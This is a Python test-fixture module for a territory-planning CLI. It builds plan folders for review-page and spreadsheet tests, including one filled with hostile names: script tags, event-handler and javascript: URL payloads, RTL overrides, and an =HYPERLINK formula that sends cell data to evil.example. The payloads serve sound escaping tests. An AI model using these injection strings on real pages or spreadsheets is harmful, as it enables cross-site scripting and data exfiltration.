"""Plan folders for the review page and spreadsheet tests (imported explicitly, not a conftest).

- ``example_plans``: the bundled example planned twice (the second with tighter tier bands),
  so a page can list the differences to a previous plan;
- ``hostile_plan``: tests/fixtures/plan_small with hostile account, rep, manager and region
  names (markup, ``</script>``, event handlers, ``javascript:`` URLs, RTL overrides, line
  separators, formulas, control characters, 10,000 characters), in a folder whose own name is
  markup;
- ``scaled_plan``: a plan folder with ``times`` copies of every account of another (new ids,
  counts in summary.json scaled to match), e.g. 20,000 accounts from plan_small's 80 in a
  fraction of a second, for the paging and filtering tests.
"""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

from click.testing import CliRunner

from territory_cli.main import cli

ROOT = Path(__file__).resolve().parents[1]
EXAMPLES = ROOT / "examples"
PLAN_SMALL = ROOT / "tests" / "fixtures" / "plan_small"

LONG_NAME = "L" * 10_000
HOSTILE_NAMES = {
    "A-003": "<script>window.__pwned = 'script'</script> Script Co",
    "A-021": "</script><script>window.__pwned = 'close'</script> Closer Ltd",
    "A-024": '"><img src=x onerror="window.__pwned = \'img\'"> Image Inc',
    "A-027": "javascript:window.__pwned='url' Link GmbH",
    "A-029": "<svg onload=\"alert('svg')\"></svg> Svg AG",
    "A-033": LONG_NAME,
    "A-035": "\u202eevil.exe\u202c Override Oy",
    "A-036": "Line\u2028Sep\u2029Para <!-- comment --> & Co",
    "A-039": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "A-040": "@SUM(1+1) At Corp",
}
HOSTILE_REP_NAME = "<img src=x onerror=\"window.__pwned='rep'\">Ana"
HOSTILE_MANAGER = "<script>window.__pwned='manager'</script>Maya"
HOSTILE_REGION = "<b onmouseover=\"window.__pwned='region'\">West</b>"
HOSTILE_REASON = "<iframe src=\"javascript:window.__pwned='reason'\"></iframe> kept"
HOSTILE_FOLDER = "plan <img src=x onerror=alert(1)>"


def invoke(*args: object) -> str:
    result = CliRunner().invoke(cli, [str(a) for a in args])
    assert result.exit_code == 0, result.output
    return result.output


def example_plans(tmp: Path) -> tuple[Path, Path]:
    """(this quarter's plan, last quarter's plan) of the bundled example."""
    now, before = tmp / "plan", tmp / "previous"
    invoke("plan", EXAMPLES / "accounts.csv", EXAMPLES / "roster.csv", "--out", now, "-q")
    invoke(
        "plan", EXAMPLES / "accounts.csv", EXAMPLES / "roster.csv", "--out", before, "-q",
        "--set", "balance.tier_band=0.05",
    )  # fmt: skip
    return now, before


def _rows(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def _write_rows(path: Path, rows: list[dict[str, str]], columns: list[str]) -> None:
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=columns, lineterminator="\n")
        w.writeheader()
        w.writerows(rows)


def hostile_plan(tmp: Path) -> Path:
    """plan_small with hostile text everywhere the page shows plan text."""
    d = tmp / HOSTILE_FOLDER
    shutil.copytree(PLAN_SMALL, d)
    rows = _rows(d / "assignments.csv")
    for r in rows:
        if r["account_id"] in HOSTILE_NAMES:
            r["name"] = HOSTILE_NAMES[r["account_id"]]
            r["reason"] = HOSTILE_REASON
            r["why"] = "<a href=\"javascript:window.__pwned='why'\">why</a>"
            r["industry"] = "<b>bold?</b>\x01"
        if r["region"] == "West":
            r["region"] = HOSTILE_REGION
    _write_rows(d / "assignments.csv", rows, list(rows[0]))
    summary = json.loads((d / "summary.json").read_text(encoding="utf-8"))
    summary["reps"][0]["name"] = HOSTILE_REP_NAME
    for rep in summary["reps"][:3]:
        rep["manager"] = HOSTILE_MANAGER
    summary["warnings"] = ["<script>window.__pwned='warning'</script> a warning"]
    summary["period_label"] = "<style>body{display:none}</style>Q1"
    (d / "summary.json").write_text(json.dumps(summary), encoding="utf-8")
    return d


def scaled_plan(source: Path, dest: Path, times: int) -> Path:
    """``times`` copies of every account of the plan in ``source`` (ids suffixed -k)."""
    dest.mkdir(parents=True)
    rows = _rows(source / "assignments.csv")
    columns = list(rows[0])
    out = []
    for k in range(times):
        for r in rows:
            copy = dict(r)
            copy["account_id"] = f"{r['account_id']}-{k}"
            if copy.get("parent_id"):
                copy["parent_id"] = f"{r['parent_id']}-{k}"
            out.append(copy)
    _write_rows(dest / "assignments.csv", out, columns)
    summary = json.loads((source / "summary.json").read_text(encoding="utf-8"))
    summary.pop("files", None)  # no checksums: the counts below are what the reader checks
    summary["overall"]["accounts"] *= times
    for rep in summary["reps"]:
        rep["accounts"] *= times
        rep["tier_counts"] = {t: n * times for t, n in rep["tier_counts"].items()}  # checked too
    (dest / "summary.json").write_text(json.dumps(summary), encoding="utf-8")
    if (source / "icp.json").exists():
        shutil.copy(source / "icp.json", dest / "icp.json")
    return dest
